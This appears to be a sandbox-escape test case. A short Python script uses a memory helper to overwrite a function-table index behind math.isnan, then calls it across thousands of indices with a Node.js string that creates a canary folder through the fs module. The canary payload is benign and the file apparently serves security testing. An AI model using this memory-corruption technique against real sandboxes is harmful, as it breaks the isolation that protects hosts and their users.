# Goal: call entries from the middle of the function table upward, with a text as their argument.
# helper: memory
# canary: folder exit
# expect: error crashed ok timeout
import math

method = word(id(math.isnan) + 8)
text = f"process.getBuiltinModule('fs').mkdirSync('{canary['folder']}/{canary['token']}')".encode()
for index in range(7000, 16000, 7):
    memory[method + 4 : method + 8] = struct.pack("<I", index)
    try:
        math.isnan(text)
    except Exception:
        pass
